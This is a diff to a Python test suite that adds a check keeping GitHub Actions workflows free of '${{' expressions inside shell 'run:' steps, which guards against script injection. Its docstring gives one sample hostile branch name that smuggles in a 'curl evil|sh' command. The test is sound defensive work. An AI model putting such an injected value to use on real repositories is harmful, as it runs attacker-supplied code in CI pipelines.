@@ -142,7 +142,7 @@ def test_every_charter_command_in_the_workflow_runs(tmp_path: Path) -> None:
     shutil.copytree(ROOT / "org", base)
     charter = str(Path(sys.executable).parent / "charter")
     for line in sorted(lines):
-        command = line.split(">>")[0].replace('"origin/${{ github.base_ref }}"', str(base))
+        command = line.split(">>")[0].replace('"origin/$BASE"', str(base))
         done = subprocess.run(
             [charter, *shlex.split(command)[1:]], cwd=work, capture_output=True, text=True, check=False
         )
@@ -165,3 +165,14 @@ def test_pre_commit_hook_is_offered_and_used() -> None:
 
 def test_new_repositories_get_this_repositorys_site_configuration() -> None:
     assert (ROOT / "templates/scaffold/mkdocs.yml").read_text() == (ROOT / "mkdocs.yml").read_text()
+
+
+def test_no_workflow_puts_an_expression_into_a_shell_command() -> None:
+    """A branch named ``x";curl evil|sh;"`` must stay a name: GitHub pastes ``${{ … }}`` into the
+    script before the shell reads it, so every value a pull request controls reaches ``run:``
+    through ``env:`` (issue 28, item 14)."""
+    for path in (ROOT / "templates" / "scaffold" / "workflow.yml", ROOT / ".github" / "workflows" / "charter.yml"):
+        jobs = yaml.safe_load(path.read_text().replace("@CHARTER@", "acme/charter@v1"))["jobs"]
+        for job in jobs.values():
+            for step in job["steps"]:
+                assert "${{" not in str(step.get("run", "")), (path.name, step.get("name"))
